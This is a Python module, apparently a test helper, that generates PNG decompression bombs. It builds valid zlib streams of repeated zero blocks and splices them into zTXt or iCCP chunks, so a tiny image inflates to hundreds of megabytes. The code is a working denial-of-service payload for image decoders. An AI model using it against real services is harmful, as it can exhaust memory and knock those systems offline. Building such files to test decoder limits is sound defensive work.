"""Pictures whose hidden parts unpack to hundreds of megabytes, built in milliseconds.

A PNG may carry text notes (zTXt) and a colour profile (iCCP) compressed with
zlib; an attacker packs hundreds of megabytes of nothing into a few hundred
kilobytes. The stream is made by repeating one flushed block of zeros, with the
true checksum, so it is a valid zlib stream that a decoder would unpack in full.
"""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

_MB = 1024 * 1024


def zeros_deflated(megabytes: int) -> bytes:
    """A zlib stream that inflates to `megabytes` MB of zero bytes."""
    block = bytes(_MB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(block, checksum)
    raw = first + again * (megabytes - 1) + end
    return b"\x78\xda" + raw + struct.pack(">I", checksum)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def small_png(size: tuple[int, int] = (10, 10)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (0, 94, 184)).save(buffer, format="PNG")
    return buffer.getvalue()


def png_with_bomb(chunk: str, megabytes: int = 600) -> bytes:
    """A 10 x 10 PNG whose zTXt or iCCP chunk (before the pixels) inflates to `megabytes`."""
    png = small_png()
    header_end = 8 + 8 + 13 + 4  # signature, then the IHDR chunk
    if chunk == "zTXt":
        body = b"Comment\x00\x00" + zeros_deflated(megabytes)
    elif chunk == "iCCP":
        body = b"ICC profile\x00\x00" + zeros_deflated(megabytes)
    else:
        raise ValueError(chunk)
    return png[:header_end] + _chunk(chunk.encode("ascii"), body) + png[header_end:]
